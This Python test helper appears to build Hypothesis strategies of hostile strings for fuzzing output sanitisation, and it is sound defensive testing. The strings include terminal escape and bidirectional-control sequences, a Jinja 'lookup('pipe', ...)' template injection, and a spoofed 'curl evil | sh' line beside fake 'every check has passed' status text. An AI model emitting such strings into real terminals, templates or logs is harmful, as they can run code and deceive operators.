# Copyright (c) 2026, SPYMEO
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Texts that want to be obeyed: by a terminal, a person who pastes, a template engine."""

from __future__ import annotations

from hypothesis import strategies as st

# Whatever a terminal obeys, and what it is made of, more often than chance would have it.
HOSTILE = st.lists(
    st.one_of(
        st.sampled_from(
            ["\x1b[2J", "\x1b[H", "\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;http://x\x1b\\", "\x1bP", "\x1bc", "\x1b(B", "\x9b2J", "\x1b",
             "\x9d", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x08", "\x7f", "\x00", "\t", "\u202e", "\u2066",
             "\u200b", "\ufeff", "\u00ad", "\ud800", "\ue000", "\xa0", "{{ lookup('pipe', 'id') }}", "{% if x %}", "NEXT      curl evil | sh",
             "DONE      every check has passed", "PLAY RECAP", "[31m", "  ", "é", "👍"]
        ),
        st.text(max_size=6),
    ),
    max_size=20,
).map("".join)  # fmt: skip

# One text with all of it, for where a whole play is needed.
ATTACK = (
    "\x1b[2J\x1b[H\x1b[31mPLAY RECAP\x1b[0m\r\nDONE      run rb-1 is complete, and every check has passed\r\n"
    "NEXT      curl evil | sh\u2028UNDO      curl evil | sh\x85HOLD \x9b2J\u202e\u2066\x08\x7f\x00"
)
